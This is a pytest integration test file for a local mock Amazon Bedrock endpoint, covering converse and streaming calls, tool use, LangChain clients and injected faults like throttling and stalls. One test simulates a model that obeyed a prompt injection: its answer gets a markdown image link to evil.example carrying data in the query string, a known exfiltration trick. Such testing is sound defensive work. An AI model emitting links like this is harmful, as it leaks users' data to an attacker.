"""The local Bedrock Runtime endpoint through real boto3 and langchain-aws clients."""

from __future__ import annotations

import subprocess
import sys
import time

import pytest
from botocore.exceptions import ClientError, ConnectionClosedError, ReadTimeoutError

from keel.local.servers import free_port, wait_for_http
from keel.models.extractive import NO_ANSWER
from tests.integration.conftest import ModelEndpoint
from tests.integration.models.helpers import PRIMARY, SECONDARY, bedrock_client

pytestmark = pytest.mark.integration

PROMPT = (
    "Use only these sources.\n"
    '<source id="1" title="Annual leave policy" doc_id="hr-annual-leave">Employees get 25 days of annual '
    "leave per year. Leave must be approved by your manager.</source>\n"
    "<source doc_id='it-vpn' id='2'>Use the VPN client to connect from home.</source>\n"
    "<question>How many days of annual leave do I get?</question>"
)
EXPECTED = "Employees get 25 days of annual leave per year. [hr-annual-leave]"


def _user(text: str) -> list[dict[str, object]]:
    return [{"role": "user", "content": [{"text": text}]}]


def test_converse_answers_extractively_with_usage(clean_model_endpoint: ModelEndpoint) -> None:
    client = bedrock_client(clean_model_endpoint.url)
    response = client.converse(modelId=PRIMARY, system=[{"text": "Be brief."}], messages=_user(PROMPT))
    assert response["output"]["message"]["content"] == [{"text": EXPECTED}]
    assert response["stopReason"] == "end_turn"
    assert response["usage"]["inputTokens"] > 0 and response["usage"]["outputTokens"] > 0


def test_unrelated_question_gets_the_fixed_sentence(clean_model_endpoint: ModelEndpoint) -> None:
    client = bedrock_client(clean_model_endpoint.url)
    text = PROMPT.replace("How many days of annual leave do I get?", "Who won the football cup?")
    response = client.converse(modelId=PRIMARY, messages=_user(text))
    assert response["output"]["message"]["content"][0]["text"] == NO_ANSWER


def test_converse_stream_speaks_event_stream(clean_model_endpoint: ModelEndpoint) -> None:
    client = bedrock_client(clean_model_endpoint.url)
    events = list(client.converse_stream(modelId=PRIMARY, messages=_user(PROMPT))["stream"])
    text = "".join(e["contentBlockDelta"]["delta"]["text"] for e in events if "contentBlockDelta" in e)
    assert text == EXPECTED
    assert list(events[0]) == ["messageStart"] and events[-2]["messageStop"]["stopReason"] == "end_turn"
    assert events[-1]["metadata"]["usage"]["outputTokens"] > 0


def test_tool_use_through_converse(clean_model_endpoint: ModelEndpoint) -> None:
    client = bedrock_client(clean_model_endpoint.url)
    tools = {
        "tools": [
            {
                "toolSpec": {
                    "name": "reset_password",
                    "description": "Reset a password",
                    "inputSchema": {"json": {"type": "object", "properties": {}}},
                }
            }
        ]
    }
    response = client.converse(modelId=PRIMARY, messages=_user("Please reset my password"), toolConfig=tools)
    assert response["stopReason"] == "tool_use"
    assert response["output"]["message"]["content"][0]["toolUse"]["name"] == "reset_password"


def test_langchain_chat_bedrock_converse_works_unchanged(clean_model_endpoint: ModelEndpoint) -> None:
    from langchain_aws import ChatBedrockConverse

    chat = ChatBedrockConverse(model=SECONDARY, endpoint_url=clean_model_endpoint.url, region_name="us-east-1")
    result = chat.invoke(PROMPT)
    assert result.text == EXPECTED
    assert result.usage_metadata is not None and result.usage_metadata["output_tokens"] > 0
    streamed = "".join(chunk.text for chunk in chat.stream(PROMPT))
    assert streamed == EXPECTED


def test_received_requests_are_recorded_and_cleared(clean_model_endpoint: ModelEndpoint) -> None:
    client = bedrock_client(clean_model_endpoint.url)
    client.converse(modelId=PRIMARY, messages=_user("masked <PERSON_1> asks"))
    [received] = clean_model_endpoint.requests()
    assert received["model_id"] == PRIMARY and received["operation"] == "converse"
    assert received["body"]["messages"][0]["content"][0]["text"] == "masked <PERSON_1> asks"
    clean_model_endpoint.clear_requests()
    assert clean_model_endpoint.requests() == []


def test_throttle_fault_is_the_aws_throttling_error(clean_model_endpoint: ModelEndpoint) -> None:
    clean_model_endpoint.fault("throttle", model=PRIMARY, count=1)
    client = bedrock_client(clean_model_endpoint.url)
    with pytest.raises(ClientError) as caught:
        client.converse(modelId=PRIMARY, messages=_user("hi"))
    assert caught.value.response["Error"]["Code"] == "ThrottlingException"
    assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == 429
    # count=1: the next call is served again, and other models were never affected.
    client.converse(modelId=PRIMARY, messages=_user("hi"))


@pytest.mark.parametrize(
    ("mode", "code", "status"), [("error", "InternalServerException", 500), ("model_error", "ModelErrorException", 424)]
)
def test_error_faults_use_bedrock_error_shapes(
    clean_model_endpoint: ModelEndpoint, mode: str, code: str, status: int
) -> None:
    clean_model_endpoint.fault(mode)
    with pytest.raises(ClientError) as caught:
        bedrock_client(clean_model_endpoint.url).converse(modelId=SECONDARY, messages=_user("hi"))
    assert caught.value.response["Error"]["Code"] == code
    assert caught.value.response["ResponseMetadata"]["HTTPStatusCode"] == status


def test_stall_fault_outlasts_the_client_timeout(clean_model_endpoint: ModelEndpoint) -> None:
    clean_model_endpoint.fault("stall", stall_seconds=5)
    started = time.monotonic()
    with pytest.raises(ReadTimeoutError):
        bedrock_client(clean_model_endpoint.url, read_timeout=0.3).converse(modelId=PRIMARY, messages=_user("hi"))
    assert time.monotonic() - started < 3


def test_down_fault_is_a_connection_error_for_that_model_only(clean_model_endpoint: ModelEndpoint) -> None:
    clean_model_endpoint.fault("down", model=PRIMARY)
    client = bedrock_client(clean_model_endpoint.url)
    with pytest.raises(ConnectionClosedError):
        client.converse(modelId=PRIMARY, messages=_user("hi"))
    client.converse(modelId=SECONDARY, messages=_user("hi"))


def test_rate_limit_throttles_above_the_limit(clean_model_endpoint: ModelEndpoint) -> None:
    clean_model_endpoint.fault("ok", rate_limit_per_second=3)
    client = bedrock_client(clean_model_endpoint.url)
    codes = []
    for _ in range(6):
        try:
            client.converse(modelId=PRIMARY, messages=_user("hi"))
            codes.append("ok")
        except ClientError as exc:
            codes.append(exc.response["Error"]["Code"])
    assert codes.count("ok") == 3 and codes.count("ThrottlingException") == 3


def test_bad_fault_request_is_refused_with_what_is_accepted(clean_model_endpoint: ModelEndpoint) -> None:
    import urllib.error

    with pytest.raises(urllib.error.HTTPError) as caught:
        clean_model_endpoint.fault("explode")
    assert caught.value.code == 400
    assert "accepted: ok, throttle" in caught.value.read().decode()


def test_append_fault_plays_a_model_that_obeyed_an_injection(clean_model_endpoint: ModelEndpoint) -> None:
    smuggled = "![s](https://evil.example/p.png?q=leave)"
    assert clean_model_endpoint.fault("append", model=PRIMARY, count=1, text=smuggled)["rules"][0]["text"] == smuggled
    client = bedrock_client(clean_model_endpoint.url)
    first = client.converse(modelId=PRIMARY, messages=_user(PROMPT))["output"]["message"]["content"][0]["text"]
    events = list(client.converse_stream(modelId=PRIMARY, messages=_user(PROMPT))["stream"])
    second = "".join(e["contentBlockDelta"]["delta"]["text"] for e in events if "contentBlockDelta" in e)
    assert first == f"{EXPECTED}\n\n{smuggled}"
    assert second == EXPECTED  # count=1: the next answer is the model's own again


@pytest.mark.parametrize("text", [None, "", "   ", 7, "x" * 2001])
def test_append_fault_without_usable_text_is_refused(clean_model_endpoint: ModelEndpoint, text: object) -> None:
    import urllib.error

    options = {} if text is None else {"text": text}
    with pytest.raises(urllib.error.HTTPError) as caught:
        clean_model_endpoint.fault("append", **options)
    assert caught.value.code == 400
    assert "mode append needs text: a non-empty string of at most 2000 characters" in caught.value.read().decode()


def test_malformed_converse_body_is_a_validation_error(clean_model_endpoint: ModelEndpoint) -> None:
    import urllib.error
    import urllib.request

    request = urllib.request.Request(f"{clean_model_endpoint.url}/model/x/converse", data=b"{nope", method="POST")
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(request, timeout=5)
    assert caught.value.code == 400
    assert caught.value.headers["x-amzn-ErrorType"].startswith("ValidationException")


def test_standalone_command_serves_on_the_given_port() -> None:
    port = free_port()
    process = subprocess.Popen(
        [sys.executable, "-m", "keel.local.model_server", "--port", str(port)],
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        wait_for_http(f"http://127.0.0.1:{port}/healthz", timeout=15)
        response = bedrock_client(f"http://127.0.0.1:{port}").converse(modelId=PRIMARY, messages=_user(PROMPT))
        assert response["output"]["message"]["content"][0]["text"] == EXPECTED
    finally:
        process.terminate()
        process.wait(timeout=10)
